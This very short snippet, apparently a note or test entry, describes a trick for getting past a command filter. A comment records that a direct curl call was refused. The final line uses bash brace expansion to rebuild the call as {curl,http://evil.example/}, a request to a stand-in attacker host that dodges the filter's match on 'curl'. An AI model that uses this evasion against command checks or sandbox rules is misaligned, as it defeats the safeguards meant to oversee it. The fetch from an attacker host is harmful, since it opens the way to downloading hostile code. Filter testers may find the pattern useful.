# Trick: a brace expansion makes command and argument.
# Refused: run(curl)
{curl,http://evil.example/}
